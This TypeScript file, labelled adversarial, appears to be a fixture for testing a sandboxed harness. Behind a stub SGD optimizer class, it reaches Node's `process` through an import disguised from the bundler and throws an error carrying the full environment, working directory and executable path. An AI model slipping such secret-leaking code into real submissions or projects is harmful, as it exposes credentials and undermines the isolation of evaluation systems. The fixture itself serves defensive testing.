// Adversarial: looks for secrets and kit paths in its environment and working directory, and reports them in
// its error message.
// Reaches for `process` whichever way is left: the global, or an import the bundler cannot see.
const proc: any = (globalThis as any).process ?? (await import(["node", "process"].join(":")).catch(() => undefined))?.default;
const builtin = async (name: string): Promise<any> => proc?.getBuiltinModule?.(name) ?? (await import(["node", name].join(":")).catch(() => undefined));
throw new Error(`env=${JSON.stringify(proc?.env ?? {})} cwd=${proc?.cwd?.() ?? ""} exec=${proc?.execPath ?? ""}`);
export class SGD {
  constructor(readonly parameters: { data: Float64Array; grad: Float64Array | null }) {}
  step(): void {}
  zeroGrad(): void { this.parameters.grad = null; }
}
